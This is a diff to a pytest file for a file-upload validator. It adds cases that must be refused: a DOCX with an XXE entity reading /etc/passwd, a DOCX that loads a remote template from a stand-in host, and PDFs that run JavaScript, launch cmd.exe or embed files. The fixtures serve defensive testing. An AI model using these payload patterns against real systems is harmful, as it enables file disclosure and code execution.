@@ -14,11 +14,16 @@ from gieo.files.models import ScanState, StoredFile
 from gieo.files.services.receive_file import clean_name
 from gieo.files.store import verify_store
 from gieo.kernel.refusal import Refused
-from tests.files.conftest import AT, EICAR, PDF, PNG, archive, on_disk, receive
+from tests.files.conftest import AT, EICAR, PDF, PNG, archive, on_disk, pdf_with, receive
 
 pytestmark = [pytest.mark.db, pytest.mark.django_db]
 
 WORD = {"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w:document/>"}
+FETCHED = (
+    b'<Relationships><Relationship Id="r1" TargetMode="External" Target="http://xau.example/t.dotm" '
+    b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/></Relationships>'
+)
+LINKED = FETCHED.replace(b"attachedTemplate", b"hyperlink")
 MACRO_TYPE = b'<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'
 
 
@@ -64,6 +69,18 @@ def test_what_the_house_knows_is_received(content: bytes, name: str, media_type:
         (archive(WORD | {"[Content_Types].xml": MACRO_TYPE}), "a.docx", None, "macros"),
         (archive(WORD | {"word/media.bin": b"0" * 30_000_000}), "bom.docx", None, "bomb"),
         (archive(WORD | {f"p{at}": b"" for at in range(5001)}), "bom.docx", None, "bomb"),
+        (
+            archive(WORD | {"word/settings.xml": b'<?xml version="1.0"?><!DOCTYPE x SYSTEM "file:///etc/passwd"><x/>'}),
+            "xxe.docx",
+            None,
+            "reaches_out",
+        ),
+        (archive(WORD | {"word/_rels/settings.xml.rels": FETCHED}), "mau.docx", None, "reaches_out"),
+        (pdf_with({"/OpenAction": {"/S": "/JavaScript", "/JS": "app.alert(1)"}}), "a.pdf", None, "active"),
+        (pdf_with({"/OpenAction": {"/S": "/Launch", "/F": "cmd.exe"}}, packed=True), "a.pdf", None, "active"),
+        (pdf_with({"/Names": {"/EmbeddedFiles": {"/Names": []}}}), "a.pdf", None, "active"),
+        (b"%PDF-1.7\nhong 1 0 obj <</S/JavaScript>> %%EOF", "a.pdf", None, "active"),
+        (pdf_with({}, password="mk"), "a.pdf", None, "damaged"),
     ],
 )
 def test_what_is_not_what_it_says_is_refused_and_leaves_nothing(
@@ -75,6 +92,18 @@ def test_what_is_not_what_it_says_is_refused_and_leaves_nothing(
     assert refused.value.refusals[0].field == "file"
     assert on_disk(store) == []
     assert not StoredFile.objects.exists()
+
+
+@pytest.mark.parametrize(
+    ("content", "name"),
+    [
+        (archive(WORD | {"word/_rels/document.xml.rels": LINKED}), "lien-ket.docx"),
+        (pdf_with({"/OpenAction": {"/S": "/GoTo", "/D": "trang-1"}}), "muc-luc.pdf"),
+        (pdf_with({}, password=""), "chi-doc.pdf"),
+    ],
+)
+def test_what_waits_for_a_press_or_is_only_locked_against_changes_is_welcome(content: bytes, name: str) -> None:
+    assert receive(content, name).scan_state == ScanState.UNSCANNED
 
 
 def test_a_refusal_names_what_is_welcome() -> None:
